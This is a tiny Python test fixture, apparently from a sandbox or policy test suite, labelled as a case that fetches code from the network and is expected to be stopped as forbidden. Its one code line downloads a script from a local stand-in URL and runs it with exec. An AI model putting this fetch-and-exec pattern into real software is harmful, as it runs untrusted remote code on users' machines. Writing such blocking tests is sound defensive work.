# D5: fetches code from the network and installs it
# stopped by: forbidden
import urllib.request

exec(urllib.request.urlopen("http://127.0.0.1:1/kernel.py", timeout=2).read())
